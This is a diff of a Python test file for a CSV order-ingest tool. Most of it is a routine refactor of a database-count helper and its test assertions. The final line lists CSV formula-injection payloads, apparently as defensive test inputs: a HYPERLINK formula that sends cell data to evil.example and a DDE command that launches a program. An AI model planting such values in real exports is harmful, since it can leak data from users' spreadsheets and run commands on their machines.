@@ -20,7 +20,6 @@ from retentio.config import Settings
 from retentio.errors import UserError
 from retentio.ingest import IngestOptions, StrictRejected, ingest_file
 from retentio.ingest import service as ingest_service
-from retentio.store.db import engine_for
 from retentio.store.schema import IngestRun, Order
 
 EXE = str(Path(sys.executable).with_name("retentio"))
@@ -49,8 +48,8 @@ def stored_orders(home: Path) -> int:
             return 0
 
 
-def order_count(settings: Settings) -> int:
-    with Session(engine_for(settings)) as session:
+def order_count(app: App) -> int:
+    with Session(app.engine) as session:
         return int(session.scalar(select(func.count()).select_from(Order)) or 0)
 
 
@@ -105,13 +104,13 @@ def test_rejects_file_that_cannot_be_written_rolls_the_load_back(
     target = tmp_path / "rejects.csv"
     with pytest.raises(UserError, match="No space left"):
         ingest_file(app, "orders", orders_file, rejects_path=target)
-    assert order_count(settings) == 0
+    assert order_count(app) == 0
     assert not target.exists()
     assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
     monkeypatch.undo()
     summary = ingest_file(app, "orders", orders_file, rejects_path=target)
     assert (summary.loaded, summary.rejected, summary.rejects_file) == (2, 1, str(target))
-    assert order_count(settings) == 2
+    assert order_count(app) == 2
 
 
 def test_a_failed_commit_leaves_no_rejects_file(
@@ -129,7 +128,7 @@ def test_a_failed_commit_leaves_no_rejects_file(
     with pytest.raises(RuntimeError):
         ingest_file(app, "orders", orders_file, rejects_path=target)
     monkeypatch.undo()
-    assert order_count(settings) == 0
+    assert order_count(app) == 0
     assert not target.exists()
 
 
@@ -141,7 +140,7 @@ def test_rejects_are_written_before_the_commit_and_recorded(
     assert summary.rejects_file == str(target)
     rows = list(csv.reader(target.open(encoding="utf-8-sig")))
     assert rows[1][:3] == ["3", "total", "total is not a number"]
-    with Session(engine_for(settings)) as session:
+    with Session(app.engine) as session:
         assert session.scalar(select(IngestRun.rejects_file)) == str(target)
     # Loading again with the same --rejects refuses before touching anything.
     with pytest.raises(UserError, match="exists already"):
@@ -172,7 +171,7 @@ def test_strict_writes_its_rejects_and_loads_nothing(
     with pytest.raises(StrictRejected):
         ingest_file(app, "orders", orders_file, IngestOptions(strict=True), rejects_path=target)
     assert target.is_file()
-    assert order_count(settings) == 0
+    assert order_count(app) == 0
 
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
